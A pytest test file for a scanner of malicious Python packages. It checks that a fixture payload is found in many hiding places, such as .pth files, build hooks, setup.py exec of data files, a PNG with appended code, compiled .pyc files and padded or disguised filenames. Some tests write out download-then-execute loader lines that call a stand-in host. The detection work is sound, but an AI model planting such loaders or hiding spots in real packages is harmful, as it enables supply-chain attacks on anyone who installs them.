"""The payload in every place of a package and in every kind of file that something runs."""

import json
import marshal
import random
import struct

import pytest

PLACES = [
    ("install", "setup.py"), ("install", "Setup.py"), ("install", "boot.pth"), ("install", "sub/deep.pth"),
    ("install", "sitecustomize.py"), ("install", "src/usercustomize.py"),
    ("import", "demo/__init__.py"), ("import", "demo.py"), ("import", "src/demo.pyw"), ("import", "tests/__init__.py"),
    ("import", ".hidden/__init__.py"), ("import", "docs/__init__.py"),
    ("rest", "demo/x.py"), ("rest", "demo/x.pyw"), ("rest", "demo/__main__.py"), ("rest", "tests/test_x.py"),
    ("rest", "tests/data/x.py"), ("rest", "docs/conf.py"), ("rest", "docs/x/y.py"), ("rest", "examples/x.py"),
    ("rest", ".github/x.py"), ("rest", ".x/.y/.z.py"), ("rest", "node_modules/x.py"), ("rest", "build/lib/x.py"),
    ("rest", "demo.egg-info/x.py"), ("rest", "demo-1.0.dist-info/x.py"), ("rest", "__pycache__/x.py"),
    ("rest", "demo/x.PY"), ("rest", "demo/x.py2"), ("rest", "vendor/setup.py"), ("rest", "conftest.py"),
    ("text", "bin/tool"), ("text", "demo/x.pyi"), ("text", "demo/__init__.pyi"), ("text", "demo/x.pyx"),
    ("text", "demo/x.so"), ("text", "demo/x.pyd"), ("text", "demo/x.dll"), ("text", "demo/x.exe"), ("text", "demo/x.png"),
    ("text", "demo/x.pyc"), ("text", "demo/x.zip"), ("text", "demo/x.dat"), ("text", "demo/x.pkl"), ("text", "demo/x.json"),
    ("text", "demo/x.py.bak"), ("rest", "demo/x.py "), ("rest", "demo/x.py."), ("text", "Makefile"), ("text", "demo/x.sh"),
    ("text", ".bashrc"), ("text", "demo/\u202eyp.x"), ("text", "demo/x.py\n"), ("text", "demo/x.in"), ("text", "demo/x.jinja2"),
    ("prose", "README"), ("prose", "README.md"), ("prose", "LICENSE"), ("prose", "docs/x.rst"), ("prose", "x.txt"),
    ("prose", "demo/x.svg"), ("prose", "demo/x.csv"), ("prose", "demo/x.html"), ("prose", "demo/x.log"),
    ("prose", "setup.cfg"), ("prose", "pyproject.toml"), ("prose", "demo.egg-info/entry_points.txt"),
    ("prose", "demo.egg-info/x"), ("prose", "demo.egg-info/PKG-INFO"), ("prose", "demo-1.0.dist-info/entry_points.txt"),
]  # fmt: skip


@pytest.mark.parametrize(("role", "name"), PLACES)
def test_the_payload_is_found_anywhere_in_an_sdist(role, name, make, examine):
    examine(make.sdist({name: make.code})).is_found(f"demo-1.0/{name}", role)


WHEEL_PLACES = [
    ("install", "boot.pth"), ("install", "sitecustomize.py"), ("install", "usercustomize/__init__.py"),
    ("install", "demo-1.0.data/purelib/boot.pth"), ("install", "demo-1.0.data/platlib/sitecustomize.py"),
    ("install", "demo-1.0.data/data/lib/python3.11/site-packages/boot.pth"),
    ("import", "demo/__init__.py"), ("import", "demo.py"), ("import", "demo-1.0.data/purelib/demo.py"),
    ("import", "demo-1.0.data/platlib/demo.pyw"),
    ("rest", "demo/x.py"), ("rest", "setup.py"), ("rest", "demo-1.0.data/scripts/x.py"), ("rest", "demo/boot.pth"),
    ("rest", "demo-1.0.data/data/x.py"), ("rest", "demo-1.0.dist-info/x.py"), ("rest", "tests/x.py"),
    ("text", "demo-1.0.data/scripts/tool"), ("text", "demo-1.0.data/data/share/x"), ("text", "demo-1.0.data/headers/x.h"),
    ("prose", "demo-1.0.dist-info/entry_points.txt"), ("prose", "demo-1.0.dist-info/licenses/LICENSE"),
]  # fmt: skip


@pytest.mark.parametrize(("role", "name"), WHEEL_PLACES)
def test_the_payload_is_found_anywhere_in_a_wheel(role, name, make, examine):
    examine(make.wheel({name: make.code}), "demo-1.0-py3-none-any.whl").is_found(name, role)


@pytest.mark.parametrize(
    ("first", "section"),
    [
        (b"#!/usr/bin/env python3\n", "rest"),
        (b"#!python\n", "rest"),
        (b"#!/usr/bin/pypy3 -S\n", "rest"),
        (b"#!/bin/sh\n", "text"),
        (b"#!/bin/sh\n''''exec python3 \"$0\" \"$@\" #'''\n", "text"),
        (b"#!/bin/sh\n# \0\n", "text"),
        (b"#!/usr/bin/env python\n# \0\n", "rest"),
        (b"#" + b"\1\2\3\4" * 2000 + b"\n", "text"),
        (b"#!/bin/bash\n: '" + b"\1\0\2" * 2000 + b"'\n", "text"),
    ],
)
def test_the_payload_is_found_in_a_script_without_suffix(first, section, make, examine):
    examine(make.sdist({"bin/tool": first + make.code})).is_found("demo-1.0/bin/tool", section)


@pytest.mark.parametrize("suffix", ["sh", "bat", "ps1", "js", "vbs", "pl", "rb", "php"])
@pytest.mark.parametrize("noise", [b"# \0\n", b"#" + b"\1\0\2\3" * 3000 + b"\n"])
def test_the_payload_is_found_in_a_script_with_zero_bytes(suffix, noise, make, examine):
    examine(make.sdist({f"demo/x.{suffix}": noise + make.code})).is_found(f"demo-1.0/demo/x.{suffix}", "text")


SETUPS = [
    b"exec(open('{}').read())\n",
    b"import os\nhere = os.path.dirname(__file__)\nexec(open(os.path.join(here, '{}')).read())\n",
    b"with open('{}') as stream:\n    code = stream.read()\nexec(compile(code, 'x', 'exec'))\n",
    b"execfile('{}')\n",
    b"import runpy\nrunpy.run_path('{}')\n",
    b"from pathlib import Path\nexec(Path('{}').read_text())\n",
]


@pytest.mark.parametrize("setup", SETUPS)
@pytest.mark.parametrize(
    "name", ["run.txt", "demo/data", "PKG-INFO2", "README.rst", "demo/logo.png", "demo.egg-info/x", "META.json"]
)
def test_the_payload_is_found_in_a_text_that_setup_executes(name, setup, make, examine):
    files = {"setup.py": setup.replace(b"{}", name.encode()), name: make.code}
    examine(make.sdist(files)).is_found(f"demo-1.0/{name}", "install")


@pytest.mark.parametrize(
    "before",
    [
        b"#" + b"\1\2\3" * 3000 + b"\n",
        b"print 'python 2'\n",
        b"\xef\xbb\xbf",
        b"BZh91AY&SY = 1\n",
        b"#" + b" " * 252 + b"    ustar\n",
        b"7z = 1\n",
    ],
)
def test_the_payload_is_found_after_noise_in_an_executed_text(before, make, examine):
    files = {"setup.py": SETUPS[0].replace(b"{}", b"run.dat"), "run.dat": before + make.code}
    examine(make.sdist(files)).is_found("demo-1.0/run.dat", "install")


def test_a_binary_that_setup_executes_is_named(make, examine):
    setup = b"exec(open('logo.png', 'rb').read()[6000:])\n"
    files = {"setup.py": setup, "logo.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".ljust(6000, b"\0") + make.code}
    examine(make.sdist(files)).is_named("executed")


def test_the_payload_is_found_in_an_in_tree_backend(make, examine):
    toml = b'[build-system]\nrequires = []\nbuild-backend = "back"\nbackend-path = ["_tools"]\n'
    examine(make.sdist({"pyproject.toml": toml, "_tools/back.py": make.code})).is_found(
        "demo-1.0/_tools/back.py", "install"
    )
    toml = toml.replace(b'"_tools"', b'"."')
    examine(make.sdist({"pyproject.toml": toml, "back.py": make.code})).is_found("demo-1.0/back.py", "install")


@pytest.mark.parametrize("name", ["hatch_build.py", "pdm_build.py", "build_script.py"])
def test_the_payload_is_found_in_a_build_hook(name, make, examine):
    examine(make.sdist({"pyproject.toml": b"[tool.hatch]\n", name: make.code})).is_found(f"demo-1.0/{name}", "install")


@pytest.mark.parametrize(
    "toml",
    [
        b"[tool.poetry.build]\nscript = 'make_it.py'\n",
        b"[tool.poetry]\nbuild='make_it.py'\n",
        b"[tool.poetry]\n\"build\" . script = 'make_it.py'\n",
        b"tool = {poetry = {build = {script = 'make_it.py'}}}\n",
        b'[tool."po\\u0065try"]\n"b\\U00000075ild" = "make_it.py"\n',
        b"[tool.pdm.build]\ncustom-hook = 'make_it.py'\n",
        b"[tool.hatch.build.hooks.custom]\npath = 'make_it.py'\n",
        b"[tool.hatch.metadata.hooks]\ncustom.path = 'make_it.py'\n",
        b"[tool.hatch]\nversion = {path='make_it.py'}\n",
    ],
)
def test_the_payload_is_found_in_a_named_build_script(toml, make, examine):
    examine(make.sdist({"pyproject.toml": toml, "make_it.py": make.code})).is_found("demo-1.0/make_it.py", "install")


def test_the_payload_is_found_in_an_import_of_setup(make, examine):
    examine(make.sdist({"setup.py": b"import helper\n", "helper.py": make.code})).is_found(
        "demo-1.0/helper.py", "install"
    )


def test_the_payload_is_found_in_a_notebook(make, examine):
    cell = {"cell_type": "code", "source": make.code.decode().splitlines(keepends=True)}
    data = json.dumps({"cells": [cell], "nbformat": 4}).encode()
    seen = examine(make.sdist({"demo/x.ipynb": data}))
    assert (seen.row.values["code_prose_category_network"], seen.row.values["code_prose_category_execution"]) >= (1, 1)
    assert "demo-1.0/demo/x.ipynb" in {place.member for place in seen.row.evidence}


@pytest.mark.parametrize(
    "place",
    [
        "top",
        "far",
        "after \x0b",
        "after \x0c",
        "after \x1c",
        "after \x85",
        "after \u2028",
        "after \r",
        "binary",
        "pickle",
        "zip",
    ],
)
def test_the_payload_is_found_in_a_path_file(place, make, examine):
    line = b"import urllib.request; exec(urllib.request.urlopen('http://example.invalid/stage').read())\n"
    before = {
        "top": b"", "far": b"demo\n" * 9000, "binary": bytes(range(256)) * 40 + b"\n", "pickle": b"\x80\x04\x95" + bytes(9000) + b"\n",
        "zip": b"PK\x03\x04" + bytes(9000) + b"\n",
    }.get(place, b"# a comment" + place[-1].encode())  # fmt: skip
    seen = examine(make.wheel({"boot.pth": before + line}), "demo-1.0-py3-none-any.whl")
    if place == "pickle":
        seen.is_seen("exec_download", "boot.pth")
    else:
        seen.is_found("boot.pth", "install")
    if place == "top" or "after" in place:
        shown = {item.indicator for item in examine(make.wheel({"boot.pth": before + line})).row.evidence}
        assert "download_then_execute" in shown or "exec_download" in shown


@pytest.mark.parametrize(
    ("line", "name"),
    [
        (b"demo.boot:main", "demo.start"),
        (b"\xef\xbb\xbf demo.boot:main \r\n", "demo.start"),
        (b"# a comment\n" * 9_000 + b"demo.boot:main\n", "demo.start"),
        (b"other:main\rdemo.boot : main.run", "DEMO.START"),
        (b"#\x01\x02\x03\x04\n\ndemo.boot:main", "demo.start"),
        (b"demo.boot:main", "demo-1.0.data/purelib/demo.start"),
        (b"demo.boot:main", "demo-1.0.data/data/lib/python3.15/site-packages/demo.start"),
    ],
    ids=["plain", "bom", "far", "return", "control", "purelib", "data"],
)
@pytest.mark.parametrize("beside", [False, True])
def test_the_payload_is_found_in_a_function_of_a_start_file(line, name, beside, make, examine):
    # PEP 829: Python 3.15 calls what a .start names, without a line of code in it.
    folder = name.rpartition("/")[0] + "/" if beside and "/" in name else ""
    code = b"def main():\n    " + make.code.replace(b"\n", b"\n    ").rstrip() + b"\n"
    place = f"{folder}demo/boot.py"
    files = {name: line, place: code, f"{folder}demo/__init__.py": b""}
    seen = examine(make.wheel(files), "demo-1.0-py3-none-any.whl")
    seen.is_found(place, "install")
    assert (seen.row.values["files_pth"], seen.row.values["files_pth_imports"]) == (1, 1 + line.startswith(b"other"))
    called = examine(make.wheel(files | {name: b""}), "demo-1.0-py3-none-any.whl")
    assert (place, "install") not in called.locations()


def compiled(source, number=3495):
    return struct.pack("<H", number) + b"\r\n" + bytes(12) + marshal.dumps(compile(source, "x.py", "exec"))


@pytest.mark.parametrize("number", [3495, 3413, 62211, 240, 336, 416, 160])
@pytest.mark.parametrize("name", ["demo/x.pyc", "demo/__pycache__/x.cpython-311.pyc", "demo/x.pyo", "boot.pyc"])
def test_the_payload_is_found_in_compiled_python(name, number, make, examine):
    data = compiled(make.code, number)
    seen = examine(make.sdist({name: data}))
    counts = [seen.row.values[f"binary_{noun}"] for noun in ("bytecode", "python_names", "hosts", "not_searched")]
    assert counts == [1, 2, 1, 0], seen.describe()


def test_one_compiled_file_too_many_is_named(make, examine):
    files = {f"demo/a{at}.pyc": compiled(f"x = {at}") for at in range(501)}
    examine(make.sdist({**files, "demo/z.pyc": compiled(make.code)})).is_named("binary_bytes")


def test_native_code_and_pickles_that_are_cut_are_counted(make, examine):
    noise = random.Random(1).randbytes(1_500_000)
    seen = examine(make.sdist({"demo/x.so": b"\x7fELF" + noise + make.code + noise}))
    assert seen.row.values["binary_cut"] == 1
    seen = examine(make.sdist({"demo/x.pkl": b"\x80\x04\x95" + noise + make.code + noise}))
    assert seen.row.values["binary_pickle_cut"] == 1


def test_many_copies_do_not_hide_a_count(make, examine):
    files = {f"demo/a{at}.py": make.code for at in range(50)}
    seen = examine(make.sdist({**files, "demo/z.py": make.code + b"#"}))
    assert seen.row.values["code_rest_category_network"] == 51


@pytest.mark.parametrize("role", ["import", "rest"])
@pytest.mark.parametrize("filler", ["# a line of filler\n", "def f{0}(a):\n    return a + {0}\n", "F{0} = {0}\n"])
def test_a_loader_in_parts_of_a_long_file_is_found(filler, role, make, examine):
    name = "demo/__init__.py" if role == "import" else "demo/x.py"
    loader = (
        "import urllib.request as r\ndef a():\n    return r.urlopen('http://example.invalid/stage')\n"
        "def b(x):\n    exec(x.read())\ndef c():\n    b(a())\nc()\n"
    )
    noise = "".join(filler.format(at) for at in range(1500))
    seen = examine(make.sdist({name: (noise + loader + noise).encode()}))
    seen.is_seen("download_then_execute", f"demo-1.0/{name}")
